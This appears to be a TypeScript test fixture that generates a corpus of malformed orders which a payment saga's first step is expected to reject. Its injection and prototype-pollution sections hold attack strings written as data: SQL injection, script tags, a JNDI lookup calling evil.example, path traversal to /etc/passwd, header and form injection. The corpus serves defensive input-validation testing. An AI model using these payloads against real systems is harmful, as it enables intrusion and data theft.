import type { Order } from '@saga/contracts';
import { anOrder } from './orders.js';

/**
 * A corpus of malformed orders: every entry must be refused by the saga's first step (ChargePayment)
 * with the error `InvalidOrder`, before anything is read or written. One module, reused by the step's
 * tests (`apps/charge-payment/test/malformed-orders.spec.ts`) and by the whole-workflow tests
 * (`stacks/fulfilment/test/malformed-orders.spec.ts`).
 *
 * ```ts
 * for (const { name, order, why } of malformedOrders()) {
 *   await expect(handler({ order }), `${name}: ${why}`).rejects.toMatchObject({ name: 'InvalidOrder' });
 * }
 * ```
 *
 * Injection-looking strings are placed in fields whose contract makes them invalid (ids, SKUs,
 * currency, e-mail, postal code, payment method) or under unknown keys. In free-text fields (name,
 * address lines, city) such strings are legitimate data (`O'Brien; Flat 2`) and are not in here.
 */
export interface MalformedOrder {
  /** Unique, stable: `<category>: <what>`. */
  readonly name: string;
  /** The value at `$.order` of the saga input (`StartExecution({ input: JSON.stringify({ order }) })`). */
  readonly order: unknown;
  /** The rule it breaks. */
  readonly why: string;
  /**
   * The whole saga input (`{"order": …}`) as raw bytes, for entries whose malformation only exists on
   * the wire (invalid UTF-8). `order` is what a lenient UTF-8 decoder (WHATWG: U+FFFD for each bad
   * sequence, as Node's `Buffer#toString`) then `JSON.parse` make of those bytes.
   */
  readonly wire?: Uint8Array;
  /** Not representable as JSON (NaN, Infinity, BigInt, Date, …): for in-process callers only. */
  readonly inProcessOnly?: true;
}

/** The categories of {@link malformedOrders}, in order. */
export const MalformedOrderCategories = [
  'not an order',
  'missing field',
  'null field',
  'extra field',
  'wrong type',
  'quantity',
  'amount',
  'lines',
  'currency',
  'field format',
  'oversized',
  'injection',
  'unicode',
  'invalid utf-8 bytes',
  'deep nesting',
  'prototype pollution',
] as const;
export type MalformedOrderCategory = (typeof MalformedOrderCategories)[number];

/** The personal data of the corpus's base order: must never appear in an error message or a log line. */
export const MALFORMED_ORDERS_PII: readonly string[] = ['Ada Lovelace', 'ada@example.com', '+447700900123', '12 Analytical Row', 'N1 9GU'];

/** Deep nesting used by the corpus: JSON text of this depth is ~20 KB, and V8's `JSON.stringify` overflows its stack on it. */
export const MALFORMED_ORDERS_DEEP_NESTING = 10_000;

/** Strings that must never be echoed back in an `InvalidOrder` message (PII and injected payloads). */
export const MALFORMED_ORDERS_MARKERS: readonly string[] = [...MALFORMED_ORDERS_PII, '<script', 'DROP TABLE', 'OR 1=1', '/etc/passwd'];

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Path = readonly (string | number)[];

/** The valid order every entry is derived from ({@link anOrder} with a second line and an address line 2). */
export function baseOrder(): Order {
  const order = anOrder();
  return anOrder({
    orderId: 'ord-malformed-1',
    customer: { ...order.customer, shippingAddress: { ...order.customer.shippingAddress, line2: 'Flat 3' } },
    lines: [
      { sku: 'SKU-A', quantity: 1, unitPrice: 1250 },
      { sku: 'SKU-B', quantity: 2, unitPrice: 499 },
    ],
  });
}

/** Every leaf and object of {@link baseOrder} that the contract requires, as paths. */
const REQUIRED_PATHS: readonly Path[] = [
  ['orderId'],
  ['customer'],
  ['customer', 'id'],
  ['customer', 'name'],
  ['customer', 'email'],
  ['customer', 'shippingAddress'],
  ['customer', 'shippingAddress', 'line1'],
  ['customer', 'shippingAddress', 'city'],
  ['customer', 'shippingAddress', 'postalCode'],
  ['customer', 'shippingAddress', 'country'],
  ['lines'],
  ['lines', 0],
  ['lines', 0, 'sku'],
  ['lines', 0, 'quantity'],
  ['lines', 0, 'unitPrice'],
  ['currency'],
  ['payment'],
  ['payment', 'paymentMethodId'],
];

/** Optional fields: absent is fine, `null` or a wrong type is not. */
const OPTIONAL_PATHS: readonly Path[] = [
  ['customer', 'phone'],
  ['customer', 'shippingAddress', 'line2'],
];

/** The objects of the order (strict: unknown keys are refused). */
const OBJECT_PATHS: readonly Path[] = [[], ['customer'], ['customer', 'shippingAddress'], ['lines', 0], ['payment']];

const label = (path: Path): string =>
  path.length === 0 ? '(root)' : path.map((p, i) => (typeof p === 'number' ? `[${p}]` : i === 0 ? p : `.${p}`)).join('');

function clone(order: Order): Record<string, any> {
  return JSON.parse(JSON.stringify(order)) as Record<string, any>;
}

function parentOf(root: Record<string, any>, path: Path): Record<string | number, any> {
  let node: any = root;
  for (const key of path.slice(0, -1)) node = node[key];
  return node as Record<string | number, any>;
}

/** A copy of the base order with `value` at `path` (`undefined` deletes the field; an array index is spliced out). */
function withValue(path: Path, value: unknown): Record<string, any> {
  const order = clone(baseOrder());
  if (path.length === 0) return value as Record<string, any>;
  const parent: Record<string | number, unknown> = parentOf(order, path);
  const key = path[path.length - 1]!;
  if (value !== undefined) parent[key] = value;
  else if (Array.isArray(parent)) (parent as unknown[]).splice(Number(key), 1);
  else delete parent[key];
  return order;
}

/** Applies `edit` to a copy of the base order. */
function edited(edit: (order: Record<string, any>) => void): Record<string, any> {
  const order = clone(baseOrder());
  edit(order);
  return order;
}

function typeOf(value: unknown): string {
  return value === null ? 'null' : Array.isArray(value) ? 'array' : typeof value;
}

/** Values of every JSON type, for the wrong-type entries. */
const TYPE_SAMPLES: ReadonlyArray<readonly [string, Json]> = [
  ['string', '1'],
  ['number', 1],
  ['boolean', true],
  ['array', []],
  ['object', {}],
];

/** `[[[…]]]` of the given depth, built without recursion. */
export function deeplyNested(depth: number, leaf: Json = 'x'): Json {
  let value: Json = [leaf];
  for (let i = 1; i < depth; i++) value = [value];
  return value;
}

/** `{"a":{"a":…}}` of the given depth. */
function deeplyNestedObject(depth: number): Json {
  let value: Json = { a: 'x' };
  for (let i = 1; i < depth; i++) value = { a: value };
  return value;
}

// ------------------------------------------------------------------------------- wire bytes

const PLACEHOLDER = 'INVALID_UTF8_PLACEHOLDER';

/**
 * The saga input `{"order": <base order with PLACEHOLDER at path>}` as UTF-8, with `bytes` spliced in
 * place of the placeholder; `order` is the lenient decoding of it.
 */
function wireEntry(name: string, path: Path, [prefix, suffix]: readonly [string, string], bytes: readonly number[], why: string): MalformedOrder {
  const order = withValue(path, `${prefix}${PLACEHOLDER}${suffix}`);
  const text = JSON.stringify({ order });
  const at = text.indexOf(PLACEHOLDER);
  const encoder = new TextEncoder();
  const head = encoder.encode(text.slice(0, at));
  const tail = encoder.encode(text.slice(at + PLACEHOLDER.length));
  const wire = new Uint8Array(head.length + bytes.length + tail.length);
  wire.set(head, 0);
  wire.set(bytes, head.length);
  wire.set(tail, head.length + bytes.length);
  const decoded = JSON.parse(new TextDecoder('utf-8', { fatal: false }).decode(wire)) as { order: unknown };
  return { name, order: decoded.order, why, wire };
}

// ------------------------------------------------------------------------------- the corpus

/**
 * The corpus (about 200 entries; built on each call, so callers may mutate what they get). Names are
 * unique. Every entry but those marked {@link MalformedOrder.inProcessOnly} survives `JSON.stringify`
 * (deeply nested ones excepted: V8 cannot stringify them, they are meant for JSON transports as text,
 * see {@link MALFORMED_ORDERS_DEEP_NESTING}).
 */
export function malformedOrders(): MalformedOrder[] {
  const out: MalformedOrder[] = [];
  const add = (category: MalformedOrderCategory, what: string, order: unknown, why: string, extra: Partial<MalformedOrder> = {}) =>
    out.push({ name: `${category}: ${what}`, order, why, ...extra });

  // -- not an order at all
  add('not an order', 'absent (input without `order`)', undefined, '`order` is required');
  add('not an order', 'null', null, 'an order is an object');
  add('not an order', 'true', true, 'an order is an object');
  add('not an order', '0', 0, 'an order is an object');
  add('not an order', 'a string', 'ord-1', 'an order is an object');
  add('not an order', 'its JSON text', JSON.stringify(baseOrder()), 'the order is JSON, not a string holding JSON');
  add('not an order', 'an empty object', {}, 'every field is required');
  add('not an order', 'an empty array', [], 'an order is an object');
  add('not an order', 'an array holding the order', [baseOrder()], 'an order is an object, not a batch');

  // -- missing and null fields
  for (const path of REQUIRED_PATHS) {
    if (typeof path[path.length - 1] === 'number') {
      // Removing a line leaves a valid order: empty it instead.
      add('missing field', `${label(path)} is an empty object`, withValue(path, {}), 'a line has sku, quantity and unitPrice');
    } else {
      add('missing field', label(path), withValue(path, undefined), `${label(path)} is required`);
    }
    add('null field', label(path), withValue(path, null), `${label(path)} must not be null`);
  }
  for (const path of OPTIONAL_PATHS) {
    add('null field', `${label(path)} (optional)`, withValue(path, null), `${label(path)} is optional, but when present it is a string`);
  }

  // -- extra fields (strict objects)
  for (const path of OBJECT_PATHS) {
    add('extra field', `${label(path)} + unknown key`, withValue([...path, 'note'], 'hello'), `${label(path)} is strict: unknown keys are refused`);
  }
  add('extra field', '(root) + amount (an attempt to set the charge)', withValue(['amount'], 1), 'the amount is computed from the lines, never given');
  add('extra field', '(root) + total', withValue(['total'], 1), 'the total is computed, never given');
  add('extra field', '(root) + status', withValue(['status'], 'paid'), 'an order has no status');
  add('extra field', 'lines[0] + discount', withValue(['lines', 0, 'discount'], 100), 'a line has no discount');
  add('extra field', 'payment + amount', withValue(['payment', 'amount'], 1), 'the amount is not the customer’s to choose');
  add('extra field', 'payment + card number', withValue(['payment', 'card'], { number: '4242424242424242', cvc: '123' }), 'raw card data never enters the saga');
  add('extra field', 'customer + isAdmin', withValue(['customer', 'isAdmin'], true), 'customer is strict');
  add('extra field', '(root) + key with a dot', withValue(['order.total'], 1), 'keys are matched literally; unknown ones are refused');
  add('extra field', '(root) + empty key', withValue([''], 1), 'an empty key is unknown');

  // -- wrong types
  const leaves: Path[] = [
    ['orderId'],
    ['customer', 'id'],
    ['customer', 'name'],
    ['customer', 'email'],
    ['customer', 'phone'],
    ['customer', 'shippingAddress', 'line1'],
    ['customer', 'shippingAddress', 'line2'],
    ['customer', 'shippingAddress', 'city'],
    ['customer', 'shippingAddress', 'postalCode'],
    ['customer', 'shippingAddress', 'country'],
    ['lines', 0, 'sku'],
    ['lines', 0, 'quantity'],
    ['lines', 0, 'unitPrice'],
    ['currency'],
    ['payment', 'paymentMethodId'],
  ];
  const base = clone(baseOrder());
  for (const path of leaves) {
    const current = path.reduce<any>((node, key) => node[key], base);
    for (const [type, sample] of TYPE_SAMPLES) {
      if (type === typeOf(current)) continue;
      add('wrong type', `${label(path)} as ${type}`, withValue(path, sample), `${label(path)} is a ${typeOf(current)}`);
    }
  }
  for (const path of [['customer'], ['customer', 'shippingAddress'], ['payment'], ['lines', 0]] as Path[]) {
    add('wrong type', `${label(path)} as string`, withValue(path, 'x'), `${label(path)} is an object`);
    add('wrong type', `${label(path)} as array`, withValue(path, []), `${label(path)} is an object`);
  }
  add('wrong type', 'lines as object', withValue(['lines'], { 0: baseOrder().lines[0] }), 'lines is an array');
  add('wrong type', 'lines as string', withValue(['lines'], 'SKU-A x1'), 'lines is an array');
  add('wrong type', 'quantity as numeric string', withValue(['lines', 0, 'quantity'], '2'), 'numbers are not coerced');
  add('wrong type', 'unitPrice as numeric string', withValue(['lines', 0, 'unitPrice'], '1250'), 'numbers are not coerced');
  add('wrong type', 'quantity as boolean', withValue(['lines', 0, 'quantity'], true), 'booleans are not numbers');

  // -- quantities
  for (const [what, quantity] of [
    ['zero', 0],
    ['negative', -1],
    ['very negative', -1_000_000],
    ['fractional', 1.5],
    ['tiny fraction', 1.0000001],
    ['over the limit', 1_001],
    ['huge', 1e21],
    ['2^53', 2 ** 53],
    ['MAX_VALUE', Number.MAX_VALUE],
    ['negative zero', -0],
  ] as const) {
    add('quantity', what, withValue(['lines', 0, 'quantity'], quantity), 'a quantity is an integer from 1 to 1000');
  }
  add('quantity', 'NaN', withValue(['lines', 0, 'quantity'], Number.NaN), 'NaN is not a quantity', { inProcessOnly: true });
  add('quantity', 'Infinity', withValue(['lines', 0, 'quantity'], Number.POSITIVE_INFINITY), 'Infinity is not a quantity', { inProcessOnly: true });
  add('quantity', 'BigInt', withValue(['lines', 0, 'quantity'], 2n), 'a quantity is a number', { inProcessOnly: true });

  // -- amounts (minor units: integers)
  for (const [what, unitPrice] of [
    ['negative', -1],
    ['negative, compensated by another line', -499],
    ['fractional (decimal major units)', 12.5],
    ['floating-point sum', 0.1 + 0.2],
    ['over the limit', 100_000_000],
    ['huge', 1e300],
    ['2^53 + 1 (unsafe integer)', 2 ** 53 + 1],
  ] as const) {
    add('amount', `unitPrice ${what}`, withValue(['lines', 0, 'unitPrice'], unitPrice), 'a unit price is an integer from 0 to 99999999 minor units');
  }
  add('amount', 'unitPrice NaN', withValue(['lines', 0, 'unitPrice'], Number.NaN), 'NaN is not an amount', { inProcessOnly: true });
  add('amount', 'unitPrice -Infinity', withValue(['lines', 0, 'unitPrice'], Number.NEGATIVE_INFINITY), 'not an amount', { inProcessOnly: true });
  add(
    'amount',
    'total zero (every line free)',
    edited((o) => o['lines'].forEach((l: Record<string, number>) => (l['unitPrice'] = 0))),
    'the total is at least 1',
  );
  add(
    'amount',
    'total over 99999999 (each line within its limits)',
    withValue(['lines'], [
      { sku: 'SKU-A', quantity: 1_000, unitPrice: 99_999 },
      { sku: 'SKU-B', quantity: 1_000, unitPrice: 99_999 },
    ]),
    'the total is at most 99999999 (Stripe’s limit)',
  );

  // -- lines
  add('lines', 'empty', withValue(['lines'], []), 'an order has at least one line');
  add(
    'lines',
    '101 lines',
    withValue(['lines'], Array.from({ length: 101 }, (_, i) => ({ sku: `SKU-${i}`, quantity: 1, unitPrice: 1 }))),
    'at most 100 lines (one DynamoDB transaction item each)',
  );
  add(
    'lines',
    '10000 lines',
    withValue(['lines'], Array.from({ length: 10_000 }, (_, i) => ({ sku: `SKU-${i}`, quantity: 1, unitPrice: 1 }))),
    'at most 100 lines',
  );
  add(
    'lines',
    'duplicate SKU',
    withValue(['lines', 1, 'sku'], 'SKU-A'),
    'SKUs are unique across lines',
  );
  add('lines', 'a null line', withValue(['lines', 1], null), 'a line is an object');
  add('lines', 'a line that is an array', withValue(['lines', 1], ['SKU-B', 2, 499]), 'a line is an object');
  add('lines', 'sparse: a hole in the array', edited((o) => (o['lines'] = [o['lines'][0], , o['lines'][1]])), 'every line is an object', {
    inProcessOnly: true,
  });

  // -- currency
  for (const [what, currency] of [
    ['unknown ISO code', 'xxx'],
    ['not sold in', 'inr'],
    ['uppercase', 'GBP'],
    ['crypto', 'btc'],
    ['empty', ''],
    ['padded', ' gbp'],
    ['two currencies', 'gbp,eur'],
    ['a symbol', '£'],
    ['with NUL', 'gbp\u0000'],
    ['numeric ISO code', '826'],
  ] as const) {
    add('currency', what, withValue(['currency'], currency), 'the currency is one of the allow-listed lowercase ISO-4217 codes');
  }
  add('currency', 'an array of one', withValue(['currency'], ['gbp']), 'the currency is a string');

  // -- other field formats
  for (const [what, path, value, why] of [
    ['orderId empty', ['orderId'], '', 'order ids are 1..64 of [A-Za-z0-9_-]'],
    ['orderId too long (65)', ['orderId'], 'o'.repeat(65), 'order ids are at most 64 characters (execution names, idempotency keys)'],
    ['orderId with a space', ['orderId'], 'ord 1', 'order ids have no spaces'],
    ['orderId starting with -', ['orderId'], '-ord-1', 'order ids start with a letter or digit'],
    ['orderId non-ASCII', ['orderId'], 'ordé-1', 'order ids are ASCII'],
    ['orderId with a colon', ['orderId'], 'ord:1', 'a colon would break the idempotency keys (`<orderId>:authorise:v1`)'],
    ['customer.id with a space', ['customer', 'id'], 'cus 42', 'identifiers have no spaces'],
    ['customer.name blank', ['customer', 'name'], '   ', 'a name is not blank'],
    ['customer.name empty', ['customer', 'name'], '', 'a name is not empty'],
    ['customer.name 201 characters', ['customer', 'name'], 'A'.repeat(201), 'a name is at most 200 characters'],
    ['customer.name with a newline', ['customer', 'name'], 'Ada\nLovelace', 'single-line text has no control characters'],
    ['customer.name with a tab', ['customer', 'name'], 'Ada\tLovelace', 'single-line text has no control characters'],
    ['customer.name with DEL', ['customer', 'name'], 'Ada\u007f', 'single-line text has no control characters'],
    ['customer.name with a C1 control', ['customer', 'name'], 'Ada\u0085', 'single-line text has no control characters'],
    ['customer.email without @', ['customer', 'email'], 'ada at example.com', 'an e-mail address'],
    ['customer.email without domain', ['customer', 'email'], 'ada@', 'an e-mail address'],
    ['customer.email 255 characters', ['customer', 'email'], `${'a'.repeat(243)}@example.com`, 'at most 254 characters'],
    ['customer.email two addresses', ['customer', 'email'], 'ada@example.com, eve@example.com', 'one e-mail address'],
    ['customer.phone not E.164', ['customer', 'phone'], '07700 900123', 'E.164: +<country><number>'],
    ['customer.phone too short', ['customer', 'phone'], '+4412', 'E.164 has 7 to 15 digits'],
    ['country lowercase', ['customer', 'shippingAddress', 'country'], 'gb', 'ISO-3166-1 alpha-2, uppercase'],
    ['country UK (not ISO)', ['customer', 'shippingAddress', 'country'], 'UK', 'the ISO code is GB'],
    ['country user-assigned XK', ['customer', 'shippingAddress', 'country'], 'XK', 'user-assigned codes are not accepted'],
    ['country alpha-3', ['customer', 'shippingAddress', 'country'], 'GBR', 'alpha-2 only'],
    ['postalCode too long', ['customer', 'shippingAddress', 'postalCode'], '1'.repeat(17), 'at most 16 characters'],
    ['postalCode with punctuation', ['customer', 'shippingAddress', 'postalCode'], 'N1/9GU', 'letters, digits, space and -'],
    ['line1 201 characters', ['customer', 'shippingAddress', 'line1'], 'x'.repeat(201), 'at most 200 characters'],
    ['sku with a space', ['lines', 0, 'sku'], 'SKU A', 'SKUs are identifiers'],
    ['sku 65 characters', ['lines', 0, 'sku'], 'S'.repeat(65), 'SKUs are at most 64 characters'],
    ['paymentMethodId a card id', ['payment', 'paymentMethodId'], 'card_1234', 'a Stripe PaymentMethod id (pm_…)'],
    ['paymentMethodId a PaymentIntent id', ['payment', 'paymentMethodId'], 'pi_123', 'a Stripe PaymentMethod id (pm_…)'],
    ['paymentMethodId bare prefix', ['payment', 'paymentMethodId'], 'pm_', 'a Stripe PaymentMethod id has a body'],
    ['paymentMethodId a raw card number', ['payment', 'paymentMethodId'], '4242424242424242', 'raw card numbers never enter the saga'],
  ] as const) {
    add('field format', what, withValue(path, value), why);
  }

  // -- oversized (Step Functions' payload limit is 256 KB)
  const big = 'A'.repeat(300 * 1024);
  add('oversized', 'customer.name of 300 KB', withValue(['customer', 'name'], big), 'a name is at most 200 characters; the whole input at most 256 KB');
  add('oversized', 'an unknown key holding 300 KB', withValue(['blob'], big), 'unknown keys are refused, whatever their size');
  add('oversized', 'orderId of 300 KB', withValue(['orderId'], 'o'.repeat(300 * 1024)), 'order ids are at most 64 characters');
  add('oversized', 'sku of 300 KB', withValue(['lines', 0, 'sku'], 'S'.repeat(300 * 1024)), 'SKUs are at most 64 characters');
  add(
    'oversized',
    '100 lines of 3 KB SKUs (each line over its limit, the order over 256 KB)',
    withValue(['lines'], Array.from({ length: 100 }, (_, i) => ({ sku: `SKU-${i}-${'x'.repeat(3 * 1024)}`, quantity: 1, unitPrice: 1 }))),
    'SKUs are at most 64 characters',
  );
  add('oversized', 'customer.name of 1 MB of multibyte text', withValue(['customer', 'name'], 'é'.repeat(512 * 1024)), 'at most 200 characters');

  // -- injection-looking strings, where the contract refuses them
  for (const [what, path, value] of [
    ['SQL in orderId', ['orderId'], "ord-1' OR 1=1 --"],
    ['SQL statement in orderId', ['orderId'], 'ord-1; DROP TABLE orders'],
    ['SQL in sku', ['lines', 0, 'sku'], "SKU-A' OR 1=1 --"],
    ['SQL in currency', ['currency'], "gbp' OR 1=1 --"],
    ['SQL in postalCode', ['customer', 'shippingAddress', 'postalCode'], "N1'; DROP TABLE orders; --"],
    ['<script> in orderId', ['orderId'], '<script>alert(1)</script>'],
    ['<script> in sku', ['lines', 0, 'sku'], '<script>alert(1)</script>'],
    ['<script> in e-mail', ['customer', 'email'], '"><script>alert(1)</script>@example.com'],
    ['<script> in paymentMethodId', ['payment', 'paymentMethodId'], 'pm_<script>alert(1)</script>'],
    ['JSONPath in orderId', ['orderId'], '$.order'],
    ['context-object path in orderId', ['orderId'], '$$.Execution.Id'],
    ['JSONPath in sku', ['lines', 0, 'sku'], '$..payment'],
    ['JSONPath in currency', ['currency'], '$.order.currency'],
    ['intrinsic in orderId', ['orderId'], "States.Format('{}', $.order)"],
    ['intrinsic in paymentMethodId', ['payment', 'paymentMethodId'], 'States.JsonToString($)'],
    ['intrinsic in customer.id', ['customer', 'id'], 'States.UUID()'],
    ['JSONata in currency', ['currency'], '{% $states.input %}'],
    ['JSONata in orderId', ['orderId'], '{% $states.context.Execution.Id %}'],
    ['template ${} in orderId', ['orderId'], '${aws_lambda_function.charge.arn}'],
    ['template ${} in sku', ['lines', 0, 'sku'], '${jndi:ldap://evil.example/a}'],
    ['path traversal in orderId', ['orderId'], '../../etc/passwd'],
    ['DynamoDB key in orderId', ['orderId'], 'ord-1#RESERVATION'],
    ['NoSQL operator as orderId', ['orderId'], { $ne: null }],
    ['NoSQL operator as e-mail', ['customer', 'email'], { $gt: '' }],
    ['CRLF header injection in paymentMethodId', ['payment', 'paymentMethodId'], 'pm_card_visa\r\nIdempotency-Key: x'],
    ['form injection in paymentMethodId', ['payment', 'paymentMethodId'], 'pm_card_visa&amount=1'],
    ['form injection in currency', ['currency'], 'gbp&amount=1'],
  ] as const) {
    add('injection', what, withValue(path, value), 'injection-looking text in a field whose format excludes it');
  }
  for (const key of ['$.order', 'order.$', 'Payload.$', '$$', 'States.Format', '${jndi:x}', '<script>', "' OR 1=1 --"]) {
    add('injection', `unknown key ${JSON.stringify(key)}`, withValue([key], '$.order'), 'unknown keys are refused, whatever they look like');
  }

  // -- unicode
  for (const [what, path, value] of [
    ['lone high surrogate in customer.name', ['customer', 'name'], 'Ada \ud800'],
    ['lone low surrogate in city', ['customer', 'shippingAddress', 'city'], '\udc00London'],
    ['reversed surrogate pair in line1', ['customer', 'shippingAddress', 'line1'], '12 Row \udc00\ud800'],
    ['lone surrogate at the end of line2', ['customer', 'shippingAddress', 'line2'], 'Flat 3\udbff'],
    ['lone surrogate in orderId', ['orderId'], 'ord-\ud800'],
    ['lone surrogate in sku', ['lines', 0, 'sku'], 'SKU-\udfff'],
    ['NUL in customer.name', ['customer', 'name'], 'Ada\u0000Lovelace'],
    ['NUL in orderId', ['orderId'], 'ord-1\u0000'],
    ['full-width digits in orderId', ['orderId'], 'ord-１'],
    ['homoglyph currency (Cyrillic е)', ['currency'], 'еur'],
    ['zero-width space in sku', ['lines', 0, 'sku'], 'SKU-\u200bA'],
    ['emoji in postalCode', ['customer', 'shippingAddress', 'postalCode'], 'N1 😀'],
  ] as const) {
    add('unicode', what, withValue(path, value), 'text is well-formed Unicode in the field’s alphabet (lone surrogates cannot be encoded as UTF-8)');
  }
  add('unicode', 'lone surrogate in a key', withValue(['\ud800'], 1), 'unknown keys are refused');

  // -- invalid UTF-8 on the wire (decoded leniently to U+FFFD)
  const seqs: ReadonlyArray<readonly [string, readonly number[]]> = [
    ['a stray continuation byte 0x80', [0x80]],
    ['0xC3 0x28 (bad continuation)', [0xc3, 0x28]],
    ['0xFF (never valid)', [0xff]],
    ['an overlong "/" 0xC0 0xAF', [0xc0, 0xaf]],
    ['a CESU-8 surrogate 0xED 0xA0 0x80', [0xed, 0xa0, 0x80]],
    ['a truncated 3-byte sequence 0xE2 0x82', [0xe2, 0x82]],
    ['a code point over U+10FFFF 0xF4 0x90 0x80 0x80', [0xf4, 0x90, 0x80, 0x80]],
  ];
  // The bad bytes go in the middle of a value that is otherwise valid.
  const wireFields: ReadonlyArray<readonly [Path, readonly [string, string]]> = [
    [['orderId'], ['ord-', '-1']],
    [['lines', 0, 'sku'], ['SKU-', 'A']],
    [['currency'], ['g', 'p']],
    [['payment', 'paymentMethodId'], ['pm_card_', 'visa']],
    [['customer', 'email'], ['ada@ex', 'ample.com']],
  ];
  for (const [i, [what, bytes]] of seqs.entries()) {
    const [path, around] = wireFields[i % wireFields.length]!;
    out.push(wireEntry(`invalid utf-8 bytes: ${what} in ${label(path)}`, path, around, bytes, 'the input is not valid UTF-8; decoded leniently the field breaks its format'));
  }
  for (const [path, around] of wireFields) {
    out.push(wireEntry(`invalid utf-8 bytes: 0xFE 0xFF in ${label(path)}`, path, around, [0xfe, 0xff], 'the input is not valid UTF-8'));
  }

  // -- deep nesting
  const depth = MALFORMED_ORDERS_DEEP_NESTING;
  add('deep nesting', `an unknown key holding arrays ${depth} deep`, withValue(['extra'], deeplyNested(depth)), 'unknown keys are refused, whatever they hold');
  add('deep nesting', `line2 as arrays ${depth} deep`, withValue(['customer', 'shippingAddress', 'line2'], deeplyNested(depth)), 'line2 is a string');
  add('deep nesting', `lines as arrays ${depth} deep`, withValue(['lines'], deeplyNested(depth, { sku: 'SKU-A', quantity: 1, unitPrice: 1 })), 'lines is an array of objects');
  add('deep nesting', `payment as objects ${depth} deep`, withValue(['payment'], deeplyNestedObject(depth)), 'payment is { paymentMethodId }');
  add('deep nesting', `the order as arrays ${depth} deep`, deeplyNested(depth, baseOrder() as unknown as Json), 'an order is an object');
  add('deep nesting', 'an unknown key holding arrays 1000 deep', withValue(['extra'], deeplyNested(1_000)), 'unknown keys are refused');
  add('deep nesting', 'customer as objects 1000 deep', withValue(['customer'], deeplyNestedObject(1_000)), 'customer is strict');

  // -- prototype pollution (own keys, as JSON.parse creates them)
  const text = JSON.stringify(baseOrder());
  const injectKey = (target: string, member: string) => JSON.parse(text.replace(target, `${target}${member},`)) as unknown;
  for (const [what, target, member] of [
    ['__proto__ at the root', '{', '"__proto__":{"polluted":"yes","isAdmin":true}'],
    ['__proto__ in customer', '"customer":{', '"__proto__":{"polluted":"yes"}'],
    ['__proto__ in shippingAddress', '"shippingAddress":{', '"__proto__":{"polluted":"yes"}'],
    ['__proto__ in a line', '"lines":[{', '"__proto__":{"unitPrice":0}'],
    ['__proto__ in payment', '"payment":{', '"__proto__":{"paymentMethodId":"pm_card_visa"}'],
    ['constructor.prototype at the root', '{', '"constructor":{"prototype":{"polluted":"yes"}}'],
    ['constructor in customer', '"customer":{', '"constructor":{"prototype":{"isAdmin":true}}'],
    ['prototype key', '{', '"prototype":{"polluted":"yes"}'],
    ['__proto__ as null', '{', '"__proto__":null'],
    ['__proto__ as an array', '{', '"__proto__":[]'],
    ['hasOwnProperty overridden', '{', '"hasOwnProperty":"no"'],
    ['toString overridden', '"customer":{', '"toString":"x"'],
  ] as const) {
    add('prototype pollution', what, injectKey(target, member), 'unknown keys are refused, prototype-named ones included');
  }
  add(
    'prototype pollution',
    'lines with an own __proto__ key instead of items',
    JSON.parse(text.replace(/"lines":\[.*?\],"currency"/, '"lines":{"__proto__":[],"length":1,"0":{"sku":"SKU-A","quantity":1,"unitPrice":1}},"currency"')),
    'lines is an array, not an array-like object',
  );
  add('prototype pollution', 'a Date as the order', new Date(0), 'an order is a plain object', { inProcessOnly: true });
  add('prototype pollution', 'a Map as the order', new Map(Object.entries(baseOrder())), 'an order is a plain object', { inProcessOnly: true });

  const seen = new Set<string>();
  for (const entry of out) {
    if (seen.has(entry.name)) throw new Error(`malformedOrders: duplicate name ${entry.name}`);
    seen.add(entry.name);
  }
  return out;
}

/** The category of an entry of {@link malformedOrders}. */
export function malformedOrderCategory(entry: Pick<MalformedOrder, 'name'>): MalformedOrderCategory {
  const category = entry.name.slice(0, entry.name.indexOf(':')) as MalformedOrderCategory;
  if (!MalformedOrderCategories.includes(category)) throw new Error(`unknown category in ${entry.name}`);
  return category;
}
